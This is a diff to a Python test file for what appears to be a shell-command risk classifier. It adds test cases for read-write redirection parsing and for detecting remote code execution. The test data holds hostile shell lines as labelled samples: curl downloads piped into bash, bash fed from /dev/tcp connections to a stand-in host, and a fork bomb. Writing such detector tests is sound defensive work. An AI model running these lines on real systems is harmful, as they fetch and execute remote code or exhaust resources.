@@ -23,6 +23,8 @@ def rules(line: str) -> set[str]:
         ("curl https://x.example/a > >(bash)", "execution-unread-code"),
         ("bash < /dev/tcp/$HOST/4444", "execution-remote-code"),
         ("bash </dev/tty", "runs-code"),
+        ("curl -o code https://x.example/a; bash <>code", "execution-remote-code"),
+        ("exec 3<>/dev/tcp/x.example/80; bash <&3", "execution-remote-code"),
         ("echo x | sh 0<&2", "execution-escape"),
         ("until false; do work & done", "execution-fork-bomb"),
     ],
@@ -53,6 +55,12 @@ def test_code_that_a_substitution_prints_is_read() -> None:
 )
 def test_code_with_holes(line: str, risk: str) -> None:
     assert assess(line).risk.name == risk
+
+
+def test_a_file_that_is_opened_for_both_ways_takes_no_output() -> None:
+    commands = assess("head -1 $(tail -1 <>notes)").to_dict()["commands"]
+    assert {"argv": ["head", "-1", None]}.items() <= next(c for c in commands if c["argv"][0] == "head").items()
+    assert [effect.kind for effect in assess("sort <>notes").effects] == ["read", "append"]
 
 
 def test_dashes_before_a_subcommand_are_passed_over() -> None:
